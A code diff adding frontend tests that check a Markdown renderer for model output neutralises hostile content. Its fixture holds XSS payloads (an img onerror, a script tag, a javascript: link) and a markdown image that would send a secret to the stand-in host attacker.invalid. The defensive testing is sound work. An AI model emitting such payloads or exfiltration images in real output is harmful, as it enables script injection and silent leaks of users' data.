@@ -98,3 +98,39 @@ describe('Markdown', () => {
     expect(root.innerHTML).not.toMatch(/onerror|javascript:/i);
   });
 });
+
+describe('Markdown of model output', () => {
+  const OUTPUT = [
+    'Here you go:',
+    '<img src=x onerror=alert(1)>',
+    '<script>alert(2)</script>',
+    '[click me](javascript:alert(3))',
+    '![leak](http://attacker.invalid/leak.png?secret=1)',
+    '[docs](https://example.com/docs) and https://example.org/raw',
+  ].join('\n\n');
+
+  it('never loads or links an image: it shows its description and URL as text', () => {
+    const { container } = render(<MarkdownView source={OUTPUT} variant="model-output" />);
+    expect(container.querySelector('img, script, svg, iframe')).toBeNull();
+    const image = screen.getByTestId('inert-image');
+    expect(image).toHaveTextContent('[Image not loaded: leak] http://attacker.invalid/leak.png?secret=1');
+    expect(image.closest('a')).toBeNull();
+    expect(image.querySelector('a')).toBeNull();
+    expect(container.innerHTML).not.toMatch(/onerror|javascript:/i);
+  });
+
+  it('keeps javascript: links as text, and shows where a web link leads', () => {
+    const { container } = render(<MarkdownView source={OUTPUT} variant="model-output" />);
+    expect(screen.getByText('click me').tagName).toBe('SPAN');
+    expect(screen.getByText('click me').closest('a')).toBeNull();
+    const links = [...container.querySelectorAll('a')].map((a) => ({ text: a.textContent, href: a.getAttribute('href'), rel: a.rel }));
+    expect(links).toEqual([{ text: 'docs', href: 'https://example.com/docs', rel: 'noopener noreferrer nofollow' }]);
+    expect(screen.getByText('(example.com)')).toHaveClass('markdown-link-host');
+  });
+
+  it('shows the plain text while the renderer loads', async () => {
+    render(<Markdown source={'**bold** <img src=x onerror=alert(1)>'} variant="model-output" />);
+    expect(await screen.findByText('bold', { selector: 'strong' }, { timeout: 5000 })).toBeInTheDocument();
+    expect(document.querySelector('img')).toBeNull();
+  });
+});
